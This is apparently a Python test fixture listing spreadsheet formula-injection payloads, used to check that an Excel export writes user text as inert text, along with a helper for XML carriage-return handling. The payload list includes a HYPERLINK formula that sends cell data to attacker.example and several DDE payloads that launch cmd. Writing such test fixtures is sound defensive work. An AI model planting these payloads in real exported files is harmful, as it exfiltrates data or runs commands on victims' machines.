"""Formula injection (issue 17, finding 7): text a user may type into any field that an export
writes to Excel. Each would run as a formula, or call out through DDE, if a cell held it as a
formula; written as text, Excel shows it as typed and runs nothing."""

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://attacker.example/exfil?"&A1,"点此查看详情")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1",
    "=",
    "-",
    "\t=1+1",
    "\r=1+1",
    "#REF!",
    "'=已带引号",
]

# Characters XML 1.0 cannot hold (a bell, an escape): a cell drops them instead of failing the
# whole export.
UNWRITABLE = "a\x07b\x1bc"
UNWRITABLE_AS_WRITTEN = "abc"


def as_read_back(text: str) -> str:
    """What a cell written with ``text`` reads back as: XML turns a carriage return into a line
    feed; everything else comes back as typed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")
